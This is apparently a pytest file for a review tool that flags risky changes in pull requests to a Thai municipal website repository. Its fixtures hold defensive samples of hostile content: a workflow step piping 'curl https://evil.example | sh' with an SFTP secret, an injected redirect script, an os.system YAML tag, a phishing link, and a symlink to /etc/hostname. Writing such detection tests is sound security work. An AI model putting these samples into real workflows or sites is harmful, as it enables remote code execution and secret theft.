"""What a pull request changes beside the facts: nothing of it is silent, the loud comes first."""

from __future__ import annotations

import json
import os
import sys
from typing import TYPE_CHECKING

import pytest

from ita_site.site.pages.qr import png_image

if TYPE_CHECKING:
    from tests.review.proposal import Clone

WORKFLOW = """\
on:
  push:
permissions:
  contents: read
jobs:
  deploy:
    permissions:
      contents: read
    steps:
      - uses: actions/checkout@v7
      - run: make site
"""
OTHER_WORKFLOW = """\
on:
  push:
  pull_request_target:
permissions:
  contents: read
jobs:
  deploy:
    permissions:
      contents: write
    steps:
      - uses: actions/checkout@v7
      - uses: evil/action@v1
      - run: curl https://evil.example | sh
        env:
          KEY: ${{ secrets.SFTP_KEY }}
"""
ABOUT = "content/about.md"
FAKE = "\n[แบบสำรวจ EIT](https://evil.example/eit) แจ้งทุจริต โทร 0 9999 9999\n"


def write(officer: Clone, file: str, text: str | bytes) -> None:
    path = officer.folder / file
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(text.encode() if isinstance(text, str) else text)


def add(officer: Clone, file: str, text: str) -> None:
    write(officer, file, (officer.folder / file).read_text("utf-8") + text)


def files(officer: Clone) -> dict[str, dict]:
    told = json.loads(officer.diff("--format", "json"))["project"]
    return {change["path"]: change for change in told}


def details(officer: Clone, path: str) -> str:
    return "\n".join(files(officer)[path]["details"])


PLACES = {
    ".github/workflows/new.yml": ("automation", True),
    ".gitlab-ci.yml": ("automation", True),
    ".forgejo/workflows/new.yml": ("automation", True),
    "ita_site_more/x.py": ("program", True),
    ".ci/venv": ("program", True),
    "pyproject.toml": ("program", True),
    "requirements.txt": ("program", True),
    "uv.lock": ("program", True),
    "Makefile": ("program", True),
    "hook.py": ("program", True),
    "mkdocs-other.yml": ("settings", True),
    ".vscode/tasks.json": ("program", True),
    "sub/.hidden": ("program", True),
    "overrides/partials/footer.html": ("look", True),
    "content/more.md": ("prose", False),
    "content/files/a.txt": ("prose", False),
    "data/notes.txt": ("other", False),
    "data/2569/import-rest.txt": ("other", False),
    "tests/anything": ("other", False),
    "nobody/foresaw/this": ("other", False),
    "NOTICE": ("other", False),
    "ชื่อไทย.txt": ("other", False),
}


@pytest.mark.thorough
def test_a_file_in_any_place_gets_a_line(officer):
    for path in PLACES:
        write(officer, path, "ข้อความ\n")
    told = {path: (change["part"], change["loud"]) for path, change in files(officer).items()}
    assert told == PLACES
    shown = officer.diff()
    assert [path for path in PLACES if path not in shown] == []
    assert officer.ita_site("diff", "HEAD", "--exit-code").code == 1
    commit = officer.commit()
    assert officer.ita_site("diff", "HEAD~1", commit).succeeded().log == shown


def test_a_foreign_link_and_a_telephone_on_a_page_are_loud(officer):
    add(officer, ABOUT, FAKE)
    told = officer.diff()
    assert "!! หน้าและไฟล์ที่เขียนเอง" in told
    assert "ลิงก์ใหม่ไป evil.example: https://evil.example/eit" in told
    assert "หมายเลขโทรศัพท์ใหม่: 0 9999 9999" in told
    assert "ต้องดูก่อน 1 ไฟล์" in told.splitlines()[0]


def test_a_reworded_page_is_quiet_and_shows_its_words(officer):
    add(officer, ABOUT, "\nเทศบาลปรับปรุงหน้านี้ทุกปี\n")
    assert not files(officer)[ABOUT]["loud"]
    assert "เทศบาลปรับปรุงหน้านี้ทุกปี" in officer.diff()


def test_a_host_that_looks_like_another_is_shown_as_machines_write_it(officer):
    add(officer, ABOUT, "\n[ร้องเรียน](https://tuay\u0430ng.example/x)\n")
    assert "xn--tuayng-6nf.example" in details(officer, ABOUT)


def test_what_nobody_sees_is_named(officer):
    add(officer, ABOUT, "\nโทร\u202e 0 1111 1111\n")
    assert "‹U+202E›" in officer.diff()
    assert "\u202e" not in officer.diff("--format", "markdown")


def test_look_scripts_and_workflow_rights_are_loud(officer):
    write(officer, ".github/workflows/deploy.yml", WORKFLOW)
    officer.commit()
    write(officer, ".github/workflows/deploy.yml", OTHER_WORKFLOW)
    write(officer, "overrides/partials/footer.html", '<script>location="//evil.example"</script>')
    told = details(officer, ".github/workflows/deploy.yml")
    for words in (
        "ได้สิทธิ์เพิ่ม: jobs/deploy contents: read → write",
        "นำของภายนอกเข้ามา: evil/action@v1",
        "คำสั่งที่จะทำงาน: curl https://evil.example | sh",
        "เริ่มทำงานเมื่อ: pull_request_target",
        "อ้างถึงความลับ: SFTP_KEY",
    ):
        assert words in told
    look = details(officer, "overrides/partials/footer.html")
    assert "โค้ดที่ทำงานบนหน้าเว็บเพิ่ม 1 แห่ง: script" in look
    assert "evil.example" in look


def test_rights_that_are_no_longer_limited_are_named(officer):
    write(officer, ".github/workflows/deploy.yml", WORKFLOW)
    officer.commit()
    write(
        officer,
        ".github/workflows/deploy.yml",
        WORKFLOW.replace("permissions:\n  contents: read\n", "", 1),
    )
    assert "ทั้งไฟล์: ไม่จำกัดสิทธิ์แล้ว" in details(officer, ".github/workflows/deploy.yml")


def test_a_workflow_that_cannot_be_read_says_so(officer):
    write(officer, ".github/workflows/odd.yml", "a: &x [1\n")
    assert "ต้องดูทั้งไฟล์" in details(officer, ".github/workflows/odd.yml")


def test_settings_show_what_was_added_and_are_never_run(officer):
    add(officer, "mkdocs.yml", "\nextra_javascript:\n  - !!python/name:os.system\n")
    told = details(officer, "mkdocs.yml")
    assert "extra_javascript" in told
    assert "os.system" in told
    assert files(officer)["mkdocs.yml"]["loud"]


def test_a_folder_that_the_settings_name_is_the_look(officer):
    officer.edit("mkdocs.yml", ("custom_dir: overrides", "custom_dir: theme"))
    write(officer, "theme/main.html", "ก")
    assert files(officer)["theme/main.html"]["part"] == "look"


@pytest.mark.thorough
@pytest.mark.skipif(os.name == "nt", reason="links need rights there")
@pytest.mark.parametrize("path", ["content/out", "data/2569/oit.yml", "data/2569/more.yml"])
def test_a_link_is_loud_wherever_it_lies_and_is_not_followed(officer, path):
    (officer.folder / path).unlink(missing_ok=True)
    (officer.folder / path).symlink_to("/etc/hostname")
    change = files(officer)[path]
    assert change["loud"]
    assert "symlink" in change["details"][0]
    assert "/etc/hostname" in change["details"][0]
    commit = officer.commit()
    assert path in officer.ita_site("diff", "HEAD~1", commit).succeeded().log


@pytest.mark.thorough
@pytest.mark.parametrize(
    ("name", "content", "words", "loud"),
    [
        ("a.pdf", b"%PDF-1.7\0\xff", "PDF ขนาด 10 ไบต์", False),
        ("a.pdf", b"MZ\0\0\xff", "ชื่อไฟล์กับชนิดไม่ตรงกัน: โปรแกรม Windows", True),
        ("a.pdf", b"version https://git-lfs.github.com/spec/v1\n", "Git LFS", True),
        ("a.pdf", b"<html>\n", "ในไฟล์เป็นข้อความ", True),
        ("a.php", b"<?php ?>\n", "เซิร์ฟเวอร์", True),
        (".htaccess", b"Options\n", "เซิร์ฟเวอร์", True),
        ("robots.txt", b"User-agent: *\n", "เครื่องมือค้นหา", True),
        ("CNAME", b"evil.example\n", "เซิร์ฟเวอร์", True),
        ("x.CSS", b"body{}\n", "เบราว์เซอร์", True),
    ],
)
def test_added_files_are_told_with_type_and_size(officer, name, content, words, loud):
    write(officer, f"content/{name}", content)
    assert words in details(officer, f"content/{name}")
    assert files(officer)[f"content/{name}"]["loud"] is loud


@pytest.mark.thorough
def test_the_code_in_a_picture_is_read(officer):

    write(officer, "content/survey.png", png_image("https://evil.example/eit"))
    assert "คิวอาร์โค้ดในรูปอ่านได้: https://evil.example/eit" in details(officer, "content/survey.png")
    assert files(officer)["content/survey.png"]["loud"]


def test_markdown_and_summary_say_the_same(officer):
    add(officer, ABOUT, FAKE)
    summary = officer.folder / "summary.md"
    told = officer.diff("--format", "markdown", "--summary", "summary.md")
    assert summary.read_text("utf-8").strip() == told.strip()
    assert "⚠️ หน้าและไฟล์ที่เขียนเอง" in told


@pytest.mark.thorough
@pytest.mark.skipif(sys.platform in ("win32", "darwin"), reason="names are text there")
def test_a_name_that_is_no_text_is_told(officer):
    name = os.fsdecode(b"content/\xa1\xc7.txt")
    write(officer, name, "ก")
    for form in ("text", "markdown", "json"):
        assert "‹U+DCA1›" in officer.diff("--format", form)


def test_no_file_hides_behind_many(officer):
    for number in range(60):
        write(officer, f"scripts/{number}.py", "x = 1\n")
    add(officer, ABOUT, FAKE)
    told = officer.diff("--format", "markdown")
    headline = told.splitlines()[0]
    assert "โปรแกรมและรุ่นของส่วนประกอบ 60, หน้าและไฟล์ที่เขียนเอง 1" in headline
    assert all(f"scripts/{number}.py" in told for number in range(60))
    assert "evil.example" in told


def test_only_what_was_compared_is_said_not_to_change(officer):
    told = officer.diff()
    assert told.strip() == "ข้อเท็จจริงไม่เปลี่ยน (ยังไม่ได้เทียบเว็บไซต์ที่สร้าง)"
    assert (
        officer.ita_site("diff", "HEAD", "data")
        .succeeded()
        .log.startswith("ข้อเท็จจริงไม่เปลี่ยน (ยังไม่ได้เทียบไฟล์อื่นและเว็บไซต์ที่สร้าง)")
    )


@pytest.mark.thorough
def test_built_sites_are_compared_byte_for_byte(officer):
    write(officer, "NOTICE", "ก")
    told = officer.diff("--build")
    assert told.startswith("สิ่งที่เผยแพร่ไม่เปลี่ยน เว็บไซต์ที่สร้างเหมือนเดิมทุกไบต์ · ไฟล์อื่นเปลี่ยน 1 ไฟล์")
    add(officer, ABOUT, "\nประโยคใหม่\n")
    changed = json.loads(officer.diff("--build", "--format", "json"))["built"]
    assert "about/index.html" in changed["changed"]
    assert not changed["equal"]
    assert not changed["failure"]


@pytest.mark.thorough
def test_a_site_that_cannot_be_built_is_not_called_equal(officer):
    add(officer, "mkdocs.yml", "\nplugins: [nonesuch]\n")
    told = officer.diff("--build")
    assert "ทุกไบต์" not in told
    assert "เว็บไซต์ที่สร้าง เพราะสร้างไม่สำเร็จ" in told
    assert "nonesuch" in told


@pytest.mark.thorough
def test_the_program_that_runs_builds_and_not_the_proposals(officer):
    """A package of our name in the proposal is not imported."""
    (officer.folder / "ita_site").unlink(missing_ok=True)
    write(officer, ".gitignore", "site/\n")
    write(officer, "ita_site/__init__.py", "raise SystemExit('ran')")
    told = officer.diff("--build")
    assert "ทุกไบต์" in told


def test_folders_cannot_be_built(officer):
    assert officer.ita_site("diff", "data", "data", "--build").code == 2


def test_many_long_lines_are_compared_in_no_time(officer):
    """Each pair of such lines takes a second; only those that are shown are compared by words."""
    words = [" ".join("กขค"[(row * at) % 7 % 3] for at in range(1500)) for row in range(100)]
    write(officer, "content/long.txt", "\n".join(words))
    officer.commit()
    write(officer, "content/long.txt", "\n".join(line[::-1] + "ง" for line in words))
    assert "และอีก 88 บรรทัด" in details(officer, "content/long.txt")
